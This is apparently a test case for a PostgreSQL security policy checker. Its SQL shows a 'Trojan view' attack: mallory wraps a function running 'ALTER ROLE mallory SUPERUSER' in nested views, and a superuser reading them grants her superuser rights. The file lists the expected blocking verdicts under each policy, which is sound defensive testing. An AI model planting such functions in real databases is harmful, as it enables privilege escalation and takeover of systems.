/*---
title: Attacker's view calling the attacker's function
pattern: Trojan view (CVE-2020-25695 family); a view runs the functions it calls with the rights of whoever reads it
description: >
  mallory publishes a reporting view, mallory.v_orders, on top of an inner view that calls her
  formatting function. alice, a superuser, reads the view; the function runs with alice's rights
  (views check table privileges as their owner, but functions run as the caller) and makes mallory
  a superuser. The chain is alice's SELECT, mallory's two views, then mallory's function.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: view, object: mallory.v_orders, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_orders, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_orders, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_orders, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_orders, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_orders, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: view, object: mallory.v_orders, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.f_format(i integer) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE mallory SUPERUSER';
    RETURN i::text;
END $$;
CREATE TABLE mallory.t_orders(id integer);
INSERT INTO mallory.t_orders VALUES (1);
CREATE VIEW mallory.v_orders_inner AS SELECT id, mallory.f_format(id) AS label FROM mallory.t_orders;
CREATE VIEW mallory.v_orders AS SELECT * FROM mallory.v_orders_inner;
GRANT SELECT ON mallory.v_orders TO PUBLIC;
RESET ROLE;

-- @step alice
SELECT * FROM mallory.v_orders;
